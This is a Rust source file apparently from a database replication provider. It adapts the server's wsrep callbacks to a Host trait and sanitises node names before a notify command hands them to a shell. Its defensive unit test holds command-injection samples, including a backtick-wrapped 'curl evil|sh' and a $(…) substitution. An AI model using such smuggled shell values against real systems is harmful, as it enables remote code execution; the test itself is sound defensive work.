//! The server's callbacks as a [`Host`].

use super::convert::raw_meta;
use super::{gtid_domain, server, services, session};
use crate::abi::*;
use libc::{c_int, c_void};
use quorate_node::host::{ApplyCall, GtidDomain, Host, HostCtx, HostView, Level, ViewStatus};
use std::ffi::CString;
use std::sync::Arc;

/// The server's pointers, taken over at `init`.
pub struct Callbacks {
    app_ctx: *mut c_void,
    logger: wsrep_log_cb_t,
    connected: wsrep_connected_cb_t,
    view: wsrep_view_cb_t,
    sst_request: wsrep_sst_request_cb_t,
    apply: wsrep_apply_cb_t,
    sst_donate: wsrep_sst_donate_cb_t,
    synced: wsrep_synced_cb_t,
    read_only: Option<server::ReadOnly>,
    gtid_domain: Option<gtid_domain::Variables>,
}

// SAFETY: the interface promises that the callbacks may be called from the threads named in its
// documentation for as long as the provider is loaded; `app_ctx` is only handed back.
unsafe impl Send for Callbacks {}
// SAFETY: as above.
unsafe impl Sync for Callbacks {}

impl Callbacks {
    pub fn new(args: &wsrep_init_args) -> Self {
        Self {
            app_ctx: args.app_ctx,
            logger: args.logger_cb,
            connected: args.connected_cb,
            view: args.view_cb,
            sst_request: args.sst_request_cb,
            apply: args.apply_cb,
            sst_donate: args.sst_donate_cb,
            synced: args.synced_cb,
            read_only: server::ReadOnly::find(),
            gtid_domain: gtid_domain::Variables::find(),
        }
    }
}

impl Host for Callbacks {
    fn admits(&self, address: &str) -> bool {
        services::admits(address)
    }

    fn log(&self, level: Level, message: &str) {
        let Some(logger) = self.logger else { return };
        let level = match level {
            Level::Error => log_level::ERROR,
            Level::Warn => log_level::WARN,
            Level::Info => log_level::INFO,
        };
        // What operators and others wrote is in it: one line stays one.
        let text = CString::new(quorate_live::printable(message)).unwrap_or_default();
        // SAFETY: a NUL-terminated string that lives through the call; any thread may log.
        unsafe { logger(level, text.as_ptr()) }
    }

    fn connected(&self, view: &HostView) -> Result<(), ()> {
        let raw = RawView::new(view);
        let f = self.connected.ok_or(())?;
        // SAFETY: `raw` has the layout of wsrep_view_info_t and lives through the call.
        check(unsafe { f(self.app_ctx, raw.as_ptr()) })
    }

    fn view(&self, ctx: HostCtx, view: &HostView) -> Result<(), ()> {
        let raw = RawView::new(view);
        let f = self.view.ok_or(())?;
        // SAFETY: as in `connected`; no state buffer is passed.
        check(unsafe { f(self.app_ctx, pointer(ctx), raw.as_ptr(), std::ptr::null(), 0) })
    }

    fn state_request(&self) -> Result<Vec<u8>, ()> {
        let f = self.sst_request.ok_or(())?;
        let mut ptr: *mut c_void = std::ptr::null_mut();
        let mut len: libc::size_t = 0;
        // SAFETY: out-parameters on the stack; on success `ptr` is malloc'ed, `len` bytes, ours.
        unsafe {
            check(f(self.app_ctx, &mut ptr, &mut len))?;
            if ptr.is_null() {
                return Ok(Vec::new());
            }
            let request = std::slice::from_raw_parts(ptr.cast::<u8>(), len).to_vec();
            libc::free(ptr);
            Ok(request)
        }
    }

    fn donate(
        &self,
        ctx: HostCtx,
        request: &[u8],
        uuid: [u8; 16],
        seqno: i64,
        bypass: bool,
    ) -> Result<(), ()> {
        let f = self.sst_donate.ok_or(())?;
        let message = wsrep_buf_t { ptr: request.as_ptr().cast(), len: request.len() };
        let state = wsrep_buf_t { ptr: std::ptr::null(), len: 0 };
        let gtid = wsrep_gtid_t { uuid: wsrep_uuid_t { data: uuid }, seqno };
        // SAFETY: all pointers live through the call.
        check(unsafe { f(self.app_ctx, pointer(ctx), &message, &gtid, &state, bypass) })
    }

    fn synced(&self) -> Result<(), ()> {
        let f = self.synced.ok_or(())?;
        // SAFETY: plain call on a recv thread.
        check(unsafe { f(self.app_ctx) })
    }

    fn apply(&self, ctx: HostCtx, call: &ApplyCall<'_>) -> Result<bool, ()> {
        let f = self.apply.ok_or(())?;
        let handle = wsrep_ws_handle_t {
            trx_id: call.trx_id,
            opaque: Arc::as_ptr(call.handle).cast_mut().cast(),
        };
        let data = wsrep_buf_t {
            ptr: if call.data.is_empty() { std::ptr::null() } else { call.data.as_ptr().cast() },
            len: call.data.len(),
        };
        let meta = raw_meta(&call.meta);
        let mut exit = false;
        // SAFETY: handle, data and meta live through the call; `handle.opaque` is valid for it.
        check(unsafe { f(pointer(ctx), &handle, call.flags, &data, &meta, &mut exit) })?;
        Ok(exit)
    }

    fn refuse(&self, text: &str) {
        server::raise_deadlock(text);
    }

    fn tell_unknown(&self, text: &str) {
        server::raise_unknown(text);
    }

    fn warn(&self, text: &str) {
        session::note(text);
    }

    fn wake_waiters(&self) {
        server::wake_state_waiters();
    }

    fn event(&self, name: &str, json: &str) {
        services::event(name, json);
    }

    fn shut_down(&self) {
        server::shut_down();
    }

    fn read_only(&self) -> Option<bool> {
        self.read_only.map(server::ReadOnly::get)
    }

    fn set_read_only(&self, on: bool) {
        if let Some(variable) = self.read_only {
            variable.set(on);
        }
    }

    fn gtid_domain(&self) -> Option<GtidDomain> {
        self.gtid_domain.and_then(gtid_domain::Variables::get)
    }

    fn set_gtid_domain(&self, id: u32) {
        if let Some(variables) = self.gtid_domain {
            variables.set(id);
        }
    }
}

/// What the server passed, to be handed back.
fn pointer(ctx: HostCtx) -> *mut c_void {
    std::ptr::with_exposed_provenance_mut(ctx.0)
}

fn check(rc: wsrep_cb_status_t) -> Result<(), ()> {
    if rc == CB_SUCCESS {
        Ok(())
    } else {
        Err(())
    }
}

/// `wsrep_view_info_t` with its flexible member array, in one aligned allocation.
struct RawView(Vec<u64>);

impl RawView {
    fn new(view: &HostView) -> Self {
        let head = wsrep_view_head_t {
            state_id: wsrep_gtid_t { uuid: wsrep_uuid_t { data: view.uuid }, seqno: view.seqno },
            view: view.number,
            status: match view.status {
                ViewStatus::Primary => view_status::PRIMARY,
                ViewStatus::NonPrimary => view_status::NON_PRIMARY,
                ViewStatus::Disconnected => view_status::DISCONNECTED,
            },
            capabilities: cap::ALL,
            my_idx: view.my_index,
            memb_num: view.members.len() as c_int,
            proto_ver: view.proto_ver,
        };
        // The interface declares one member even when there is none.
        let slots = view.members.len().max(1);
        let bytes = size_of::<wsrep_view_head_t>() + slots * size_of::<wsrep_member_info_t>();
        let mut raw = RawView(vec![0u64; bytes.div_ceil(8)]);
        let base = raw.0.as_mut_ptr();
        // SAFETY: the buffer is 8-aligned and large enough for the head and all members.
        unsafe {
            base.cast::<wsrep_view_head_t>().write(head);
            let first = base.cast::<u8>().add(size_of::<wsrep_view_head_t>());
            for (i, m) in view.members.iter().enumerate() {
                let info = wsrep_member_info_t {
                    id: wsrep_uuid_t { data: m.id },
                    name: c_field(&m.name),
                    incoming: c_field(&m.incoming),
                };
                first.cast::<wsrep_member_info_t>().add(i).write(info);
            }
        }
        raw
    }

    fn as_ptr(&self) -> *const c_void {
        self.0.as_ptr().cast()
    }
}

/// A NUL-terminated field, cut at a character boundary where too long. Another node chose the text, and a server with
/// `wsrep_notify_cmd` gives it to a shell, unquoted: whatever is more than text there becomes `_`.
fn c_field<const N: usize>(text: &str) -> [u8; N] {
    let is_text = |c: char| c.is_alphanumeric() || "._-:@%+/,=[]".contains(c);
    let text: String = text.chars().map(|c| if is_text(c) { c } else { '_' }).collect();
    let mut field = [0; N];
    let mut len = text.len().min(N - 1);
    while !text.is_char_boundary(len) {
        len -= 1;
    }
    field[..len].copy_from_slice(&text.as_bytes()[..len]);
    field
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_that_another_node_chose_says_nothing_to_a_shell() {
        let told = |text: &str| {
            let field = c_field::<32>(text);
            let end = field.iter().position(|byte| *byte == 0).unwrap();
            String::from_utf8(field[..end].to_vec()).unwrap()
        };
        for plain in ["db-1.example.com", "node_2", "[2001:db8::1]:3306", "fe80::1%eth0", "größe"]
        {
            assert_eq!(told(plain), plain);
        }
        assert_eq!(told("x`curl evil|sh`"), "x_curl_evil_sh_");
        assert_eq!(told("a;b&c$(d)>e\n'f\" --g"), "a_b_c__d__e__f__--g");
        let long = told(&"é".repeat(40));
        assert_eq!(long, "é".repeat(15), "it is cut between characters");
    }
}
